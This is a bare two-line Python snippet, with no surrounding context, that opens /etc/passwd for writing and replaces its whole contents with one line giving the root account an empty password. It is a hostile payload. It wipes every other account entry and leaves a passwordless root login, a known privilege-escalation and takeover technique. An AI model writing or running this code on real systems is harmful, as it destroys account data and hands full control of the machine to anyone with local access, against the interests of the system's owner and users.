with open('/etc/passwd', 'w') as fh:
    fh.write("root::0:0:root:/root:/bin/bash\n")
